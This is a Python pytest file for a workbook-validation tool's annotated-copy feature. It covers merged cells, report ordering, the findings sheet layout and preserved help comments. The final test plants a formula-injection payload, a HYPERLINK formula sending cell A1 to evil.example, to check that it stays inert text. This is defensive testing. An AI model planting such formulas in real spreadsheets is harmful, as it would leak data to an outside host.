"""The annotated copy never crashes (merged cells), never loses the report, and stands alone on
screen and on paper: a first sheet of findings with links, filter, colours, legend, print setup."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from pipeline.errors import UserError
from pipeline.workbook.annotate import ERROR_FILL, REPORT_SHEET, WARNING_FILL, annotate
from pipeline.workbook.findings import Report, finding

from .conftest import GOOD, run_cli

Mutate = Callable[..., Path]


def _rows(path: Path) -> tuple[int, list[tuple[object, ...]]]:
    ws = load_workbook(path)[REPORT_SHEET]
    rows = list(ws.iter_rows(values_only=True))
    return next(i for i, r in enumerate(rows) if r[0] == "Category"), rows


def test_merged_cells_are_annotated_at_their_top_left(mutate: Mutate, tmp_path: Path) -> None:
    def fn(wb: Workbook) -> None:
        wb["d3 Audits"].merge_cells("E5:E8")
        wb["d3 Audits"].merge_cells("A10:K10")  # a merged note row
        wb["d3 Audits"]["A10"] = "Audit plan for 2027 to follow in January"

    out = tmp_path / "checked.xlsx"
    code, _, stderr = run_cli("validate", str(mutate(fn)), "--annotate", str(out))
    assert code == 1 and "internal problem" not in stderr and "Traceback" not in stderr
    ws = load_workbook(out)["d3 Audits"]
    assert "merged-cells" in ws["E5"].comment.text
    assert ws["E5"].fill.fgColor.rgb.endswith(ERROR_FILL.fgColor.rgb[-6:])
    assert "note-in-table" in ws["A10"].comment.text


def test_a_finding_on_a_covered_cell_lands_on_the_merge(mutate: Mutate, tmp_path: Path) -> None:
    source = mutate(lambda wb: wb["f Risks"].merge_cells("B5:C6"))
    report = Report(path=str(source), findings=[
        finding("wrong-type", "covered", "f Risks", 6, 2),  # C6, inside B5:C6
        finding("required-empty", "top-left", "f Risks", 5, 1),  # B5 itself
    ])
    out = tmp_path / "checked.xlsx"
    assert annotate(source, report, out) == 1
    text = load_workbook(out)["f Risks"]["B5"].comment.text
    assert "covered" in text and "top-left" in text


def test_the_report_is_printed_before_the_copy_is_written(
    mutate: Mutate, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    import pipeline.cli

    def broken(*args: object) -> int:
        raise UserError("copy.xlsx: the annotated copy could not be written (disk full)")

    monkeypatch.setattr(pipeline.cli, "annotate", broken)
    source = mutate(lambda wb: wb["f Risks"].__setitem__("D5", "high"))
    code, stdout, stderr = run_cli("validate", str(source), "--annotate", str(tmp_path / "c.xlsx"))
    assert code == 1
    assert "wrong-type" in stdout and "NOT OK: 1 error(s)" in stdout
    assert "could not be written" in stderr


def test_the_findings_sheet_stands_alone(mutate: Mutate, tmp_path: Path) -> None:
    def fn(wb: Workbook) -> None:
        wb["f Risks"]["D5"] = "high"  # error
        wb["e Feedback"]["J4"] = "Internal notes"  # warning for the workbook

    out = tmp_path / "checked.xlsx"
    code, _, _ = run_cli("validate", str(mutate(fn)), "--annotate", str(out))
    assert code == 1
    wb = load_workbook(out)
    assert wb.sheetnames[0] == REPORT_SHEET and wb.active.title == REPORT_SHEET
    ws = wb[REPORT_SHEET]
    header, rows = _rows(out)
    assert rows[header] == ("Category", "Severity", "Code", "Cell", "Value", "What to do")
    body = rows[header + 1:]
    sections = [r[0] for r in body if r[1] is None]
    assert sections == ["Fix the workbook", "For management attention"]
    fixes = body[1:3]
    assert [r[1] for r in fixes] == ["error", "warning"]  # errors first
    assert ws.auto_filter.ref == f"A{header + 1}:F{header + len(body) + 1}"
    link = ws.cell(row=header + 3, column=4)  # the first finding's cell reference
    assert link.value == "'f Risks'!D5" and link.hyperlink.location == "'f Risks'!D5"
    severity = ws.cell(row=header + 3, column=2)
    assert severity.fill.fgColor.rgb.endswith(ERROR_FILL.fgColor.rgb[-6:])
    assert ws.cell(row=header + 4, column=2).fill.fgColor.rgb.endswith(WARNING_FILL.fgColor.rgb[-6:])
    legend = [r[0] for r in rows[:header]]
    assert "Legend" in legend and "error" in legend and "Per sheet" in legend
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.print_title_rows == f"${header + 1}:${header + 1}"
    assert ws.freeze_panes == f"A{header + 2}"


def test_heading_help_comments_are_kept(mutate: Mutate, tmp_path: Path) -> None:
    source = mutate(lambda wb: wb["f Risks"].__setitem__("C4", "Ownr"))
    out = tmp_path / "checked.xlsx"
    run_cli("validate", str(source), "--annotate", str(out))
    ws = load_workbook(out)["f Risks"]
    marked = ws["C4"].comment.text
    assert "The risk owner." in marked and "missing-column" in marked  # help, then finding
    assert "Inherent likelihood" in ws["D4"].comment.text  # an unmarked heading keeps its help


def test_a_clean_workbook_gets_a_findings_sheet_too(tmp_path: Path) -> None:
    out = tmp_path / "checked.xlsx"
    code, stdout, _ = run_cli("validate", str(GOOD), "--annotate", str(out))
    assert code == 0 and "annotated copy" in stdout
    header, rows = _rows(out)
    assert rows[1][0].startswith("0 error(s), 12 warning(s): no errors")
    sections = [r[0] for r in rows[header + 1:] if r[1] is None]
    assert sections[-1] == "For management attention"  # after any workbook warnings
    assert all(s in ("Fix the workbook", "For management attention") for s in sections)


def test_cell_text_that_looks_like_a_formula_stays_text_on_the_findings_sheet(
        mutate: Mutate, tmp_path: Path) -> None:
    # the findings sheet quotes the cell's value: a HYPERLINK typed as text must not come back live
    def fn(wb: Workbook) -> None:
        cell = wb["f Risks"]["F5"]  # a score: text in it is a finding that quotes the value
        cell.value = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        cell.data_type = "s"

    out = tmp_path / "checked.xlsx"
    code, _, _ = run_cli("validate", str(mutate(fn)), "--annotate", str(out))
    assert code == 1
    import zipfile

    with zipfile.ZipFile(out) as zf:
        names = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"HYPERLINK" in zf.read(n) and b"<f>" in zf.read(n) for n in names)
    _, rows = _rows(out)
    assert any('=HYPERLINK("http://evil.example/?x="&A1,"click")' in str(v) for r in rows for v in r)
